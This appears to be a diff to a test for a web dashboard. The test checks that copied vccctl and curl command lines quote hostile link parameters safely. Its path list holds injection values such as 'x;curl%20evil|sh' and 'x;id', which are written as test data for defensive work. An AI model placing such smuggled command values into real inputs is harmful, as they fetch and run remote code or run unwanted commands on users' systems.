@@ -3,6 +3,7 @@ hostile name can do anything."""
 import http.server
 import json
 import os
+import shlex
 import ssl
 import subprocess
 import threading
@@ -217,14 +218,12 @@ def test_a_link_of_somebody_else_is_no_command(site, admin, tmp_path):
         for word in HOSTILE_WORDS:
             address = f"#/{view}?{urllib.parse.urlencode({name: word})}"
             admin.run(f"(() => {{ window.copied = null; location.hash = {json.dumps(address)}; }})()")
-            shown = wait_for(address, lambda: (text := admin.run("(document.querySelector('.foot code') || {}).textContent")) and name in text and text, 60, 0.05)
-            admin.click(".foot button", "vccctl")
-            assert admin.until("window.copied") == shown
+            shown = wait_for(address, lambda: (text := admin.run("(document.querySelector('.foot code') || {}).textContent")) and shlex.split(text)[-2:] == [before[-1], word] and text, 60, 0.05)
+            assert dashboard.copied(admin, "vccctl") == shown
             heard = subprocess.run(["sh", "-c", "vccctl() { printf '%s\\n' \"$@\"; }\n" + shown], cwd=tmp_path, capture_output=True, text=True, timeout=60)
             assert (heard.returncode, heard.stdout.split("\n")[:-1], heard.stderr) == (0, [*before, word], ""), (address, shown)
             admin.run("window.copied = null")
-            admin.click(".foot button", "curl")
-            line = admin.until("window.copied")
+            line = dashboard.copied(admin, "curl")
             assert line.count("'") == 2 and line.endswith("'"), line
     assert not os.listdir(tmp_path)
     for path in ("explain/x;curl%20evil|sh", "certificates/x;id", "campaigns/x;id", "agents/x;id", "services/x;id", "templates/x;id", "approvals/x;id", "renewals/x;id",
